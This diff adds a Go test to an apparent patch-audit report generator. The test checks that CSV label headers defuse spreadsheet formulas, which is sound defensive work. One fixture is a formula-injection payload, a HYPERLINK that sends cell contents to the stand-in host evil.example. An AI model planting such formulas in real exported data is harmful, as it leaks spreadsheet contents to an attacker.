@@ -391,3 +391,57 @@ func TestCSVErrorCodeNamesCapped(t *testing.T) {
 		t.Errorf("row %q, want %d associations and the one example", recs[1][:3], n)
 	}
 }
+
+// TestChangesCSVHeaderNeutralised checks that the label columns of
+// changes.csv, the inventory's own column names, are neutralised in the
+// header as they are in instances.csv: a spreadsheet must not run a label
+// key as a formula.
+func TestChangesCSVHeaderNeutralised(t *testing.T) {
+	at := time.Date(2026, 11, 30, 3, 0, 0, 0, time.UTC)
+	labels := map[string]string{`=HYPERLINK("http://evil.example/"&A2,"x")`: "a", "-2+3": "b", "@SUM(1)": "c", "owner": "-1"}
+	result := func(status string, when time.Time) audit.Result {
+		d := when.Add(-time.Hour)
+		return audit.Result{
+			Region: east, InstanceID: "i-0000000000000000a", Labels: labels, Outcome: audit.Judge([]audit.Association{{Status: status}}),
+			AuditedAt: when, Associations: []audit.Association{{AssociationID: "a-1", Name: "AWS-RunPatchBaseline", Status: status, ExecutionDate: &d}},
+		}
+	}
+	basePath := filepath.Join(t.TempDir(), audit.ResultsFile)
+	w, err := audit.CreateRecord(basePath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Write(result(audit.StatusSuccess, at.Add(-24*time.Hour))); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	base, err := audit.OpenBaseline(basePath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer base.Close()
+	opts := report.Options{
+		Dir: t.TempDir(), Records: openRecord(t, []audit.Result{result(audit.StatusFailed, at)}), Baseline: base,
+		Run: audit.RunInfo{StartedAt: at, Complete: true}, Formats: []report.Format{report.FormatCSV}, StaleAfter: audit.DefaultStaleAfter,
+	}
+	if _, err := report.Render(context.Background(), opts); err != nil {
+		t.Fatal(err)
+	}
+	recs := readCSV(t, filepath.Join(opts.Dir, report.ChangesCSV))
+	fixed := 11 // the columns before the labels
+	got := recs[0][fixed:]
+	want := []string{`'-2+3`, `'=HYPERLINK("http://evil.example/"&A2,"x")`, `'@SUM(1)`, "owner"}
+	if !slices.Equal(got, want) {
+		t.Errorf("changes.csv label columns %q, want %q", got, want)
+	}
+	// The same keys, as instances.csv names them.
+	inst := readCSV(t, filepath.Join(opts.Dir, report.InstancesCSV))[0][17:]
+	if !slices.Equal(inst, want) {
+		t.Errorf("instances.csv label columns %q, want %q, as in changes.csv", inst, want)
+	}
+	if rows := recs[1:]; len(rows) != 1 || rows[0][0] != string(audit.NewFailure) || !slices.Equal(rows[0][fixed:], []string{"b", "a", "c", "-1"}) {
+		t.Errorf("changes.csv rows %q, want one new_failure with the labels b, a, c, -1", rows)
+	}
+}
